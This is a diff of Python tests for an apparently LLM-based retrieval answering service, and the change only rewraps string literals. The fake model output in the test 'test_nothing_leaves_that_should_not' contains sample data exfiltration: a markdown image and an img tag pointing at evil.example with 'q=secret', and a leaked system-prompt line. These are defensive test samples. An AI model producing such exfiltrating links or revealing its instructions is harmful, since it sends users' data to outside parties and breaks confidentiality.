@@ -171,8 +171,9 @@ def test_orders_in_a_passage_are_neither_quoted_nor_shown_to_the_model(
 def test_what_a_model_says_is_cited_and_checked(generating: tuple[Stack, OllamaServer, Llm]) -> None:
     stack, _, llm = generating
     llm.answers = [
-        "Every employee has 30 days of leave per year [1]. It is 45 days for managers [1]. Bananas are yellow fruit [2]. "
-        "Unused leave expires at the end of March [9]. Leave is nice to have. The text says “leave is a gift to all” [1]."
+        "Every employee has 30 days of leave per year [1]. It is 45 days for managers [1]. Bananas are yellow fruit "
+        "[2]. Unused leave expires at the end of March [9]. Leave is nice to have. The text says "
+        "“leave is a gift to all” [1]."
     ]
     answer = ask(stack)
     assert (answer["outcome"], answer["model"]) == ("generated", "m")
@@ -205,8 +206,8 @@ def test_nothing_leaves_that_should_not(generating: tuple[Stack, OllamaServer, L
     stack, _, llm = generating
     llm.answers = [
         "Receipts go to https://portal.example/expenses [1]. See ![x](https://evil.example/p?q=secret) now. "
-        "Read [this](https://evil.example/a) [1]. My rules: You answer questions from passages that a search has found, "
-        "and use nothing but the passages. <img src=https://evil.example/i> is a tag."
+        "Read [this](https://evil.example/a) [1]. My rules: You answer questions from passages that a search has "
+        "found, and use nothing but the passages. <img src=https://evil.example/i> is a tag."
     ]
     answer = ask(stack, "Where are receipts uploaded?")
     assert "https://portal.example/expenses" in answer["answer"]
